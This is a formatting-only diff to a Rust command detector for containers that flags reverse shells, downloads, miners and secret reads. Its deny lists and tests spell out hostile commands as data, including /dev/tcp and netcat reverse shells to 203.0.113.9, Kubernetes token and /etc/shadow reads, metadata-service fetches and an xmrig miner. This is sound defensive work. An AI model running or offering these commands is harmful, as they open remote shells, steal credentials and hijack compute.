@@ -113,8 +113,9 @@ const MINERS: [&str; 20] = [
 ];
 
 const SHELLS_AND_TOOLS: [&str; 22] = [
-    "sh", "bash", "ash", "dash", "zsh", "ksh", "fish", "csh", "tcsh", "busybox", "kubectl", "crictl",
-    "ctr", "docker", "nsenter", "chroot", "python", "python2", "python3", "perl", "ruby", "lua",
+    "sh", "bash", "ash", "dash", "zsh", "ksh", "fish", "csh", "tcsh", "busybox", "kubectl",
+    "crictl", "ctr", "docker", "nsenter", "chroot", "python", "python2", "python3", "perl", "ruby",
+    "lua",
 ];
 
 impl Command {
@@ -152,7 +153,8 @@ impl Command {
     /// Gives somebody else a shell.
     pub(crate) fn reverse_shell(&self) -> Option<&'static str> {
         let piped = || {
-            let decodes = self.any_of(&["base64 -d", "base64 --decode", "openssl enc -d", "xxd -r"]);
+            let decodes =
+                self.any_of(&["base64 -d", "base64 --decode", "openssl enc -d", "xxd -r"]);
             decodes.filter(|_| self.pipes_to_shell())
         };
         self.any_of(&REVERSE_SHELLS).or_else(piped)
@@ -165,7 +167,9 @@ impl Command {
 
     /// Fetches something.
     pub(crate) fn download(&self) -> Option<&'static str> {
-        let fetches = self.words().any(|word| matches!(word, "curl" | "wget" | "aria2c" | "lwp-download"));
+        let fetches = self
+            .words()
+            .any(|word| matches!(word, "curl" | "wget" | "aria2c" | "lwp-download"));
         if !fetches {
             return None;
         }
@@ -173,7 +177,10 @@ impl Command {
         // Health checks ask the container itself.
         let local = ["://localhost", "://127.0.0.1", "://[::1]"];
         let places = self.text.matches("://").count();
-        let at_home: usize = local.iter().map(|mark| self.text.matches(mark).count()).sum();
+        let at_home: usize = local
+            .iter()
+            .map(|mark| self.text.matches(mark).count())
+            .sum();
         (places > at_home).then_some(remote)
     }
 
@@ -185,7 +192,10 @@ impl Command {
 
     /// The name of the program, without its folder.
     pub(crate) fn program(&self) -> Option<&str> {
-        let first = self.text.split_whitespace().find(|word| !word.contains('='))?;
+        let first = self
+            .text
+            .split_whitespace()
+            .find(|word| !word.contains('='))?;
         first.rsplit('/').next()
     }
 
@@ -195,17 +205,24 @@ impl Command {
         let is_tar = words
             .next()
             .is_some_and(|word| word.rsplit('/').next() == Some("tar"));
-        is_tar && words.next().is_some_and(|flags| {
-            let flags = flags.trim_start_matches('-');
-            let known = flags.chars().all(|flag| "cxzvmpf".contains(flag));
-            known && flags.contains('f') && flags.contains(['c', 'x']) && self.text.contains(" -")
-        })
+        is_tar
+            && words.next().is_some_and(|flags| {
+                let flags = flags.trim_start_matches('-');
+                let known = flags.chars().all(|flag| "cxzvmpf".contains(flag));
+                known
+                    && flags.contains('f')
+                    && flags.contains(['c', 'x'])
+                    && self.text.contains(" -")
+            })
     }
 
     fn pipes_to_shell(&self) -> bool {
         self.text.split('|').skip(1).any(|stage| {
             let program = stage.split_whitespace().next().unwrap_or_default();
-            matches!(program.rsplit('/').next(), Some("sh" | "bash" | "ash" | "python" | "python3" | "perl"))
+            matches!(
+                program.rsplit('/').next(),
+                Some("sh" | "bash" | "ash" | "python" | "python3" | "perl")
+            )
         })
     }
 
@@ -231,7 +248,9 @@ fn simplified(line: &str) -> String {
             c => text.push(c.to_ascii_lowercase()),
         }
     }
-    text.replace("//", "/").replace(":/", "://").replace(":///", "://")
+    text.replace("//", "/")
+        .replace(":/", "://")
+        .replace(":///", "://")
 }
 
 /// The text that a base64 word stands for, if it is one and is text.
@@ -258,15 +277,30 @@ mod tests {
     fn commands_are_seen_through() {
         let packed = STANDARD.encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
         for (line, expected) in [
-            ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "token"),
-            ("cp -r /run/secrets/kubernetes.io/serviceaccount /tmp", "token"),
-            ("c\"a\"t /var/run/secre\\ts//kubernetes.io/serviceaccount/token", "token"),
+            (
+                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+                "token",
+            ),
+            (
+                "cp -r /run/secrets/kubernetes.io/serviceaccount /tmp",
+                "token",
+            ),
+            (
+                "c\"a\"t /var/run/secre\\ts//kubernetes.io/serviceaccount/token",
+                "token",
+            ),
             ("cat${IFS}/etc/shadow", "file"),
             ("ls -la /root/.ssh", "file"),
-            ("curl http://169.254.169.254/latest/meta-data", "metadata download"),
+            (
+                "curl http://169.254.169.254/latest/meta-data",
+                "metadata download",
+            ),
             ("wget -qO- http://2852039166/", "metadata download"),
             ("nc -e /bin/sh 203.0.113.9 4444", "shell"),
-            ("sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "shell tool"),
+            (
+                "sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+                "shell tool",
+            ),
             ("sh -c echo aGk= | base64 -d | bash", "shell tool"),
             ("/tmp/xmrig -o pool.example:3333", "miner"),
             ("curl -sf http://localhost:8080/healthz", ""),
